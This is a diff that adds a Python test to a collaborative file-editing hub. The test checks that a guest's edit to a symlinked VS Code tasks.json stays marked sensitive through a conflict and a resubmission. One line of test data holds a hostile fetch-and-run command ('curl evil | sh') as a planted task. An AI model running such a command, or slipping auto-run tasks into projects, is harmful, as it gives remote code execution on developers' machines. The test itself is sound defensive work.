@@ -61,3 +61,23 @@ def test_a_kept_edit_always_unpacks() -> None:
     assert data is not None and data.base_z is not None
     if data.edit_z is not None:
         assert merging.unpack_edit(data.edit_z) == edit
+
+
+async def test_a_conflict_resubmitted_through_a_symlinked_sensitive_folder_stays_marked(
+    hub: HubFixture,
+) -> None:
+    (hub.project / "config" / "vscode").mkdir(parents=True)
+    (hub.project / "config" / "vscode" / "tasks.json").write_text("{}\n", encoding="utf-8")
+    (hub.project / ".vscode").symlink_to("config/vscode")  # the host's own layout
+    guest = await hub.guest("mallory")
+    host = await hub.host()
+    path = "config/vscode/tasks.json"
+    proposed = await guest.call("write_file", path=path, content='{"a": 1}\n')
+    cid = proposed["change"]["id"]
+    assert proposed["change"]["sensitive"]
+    (hub.project / path).write_text('{"host": 1}\n', encoding="utf-8")
+    await host.call("approve_change", id=cid)  # a conflict
+    updated = await guest.call("update_change", id=cid, content='{"run": "curl evil | sh"}\n')
+    assert updated["change"]["sensitive"]
+    [queued] = (await host.call("pending_changes"))["changes"]
+    assert queued["sensitive"] == proposed["change"]["sensitive"]
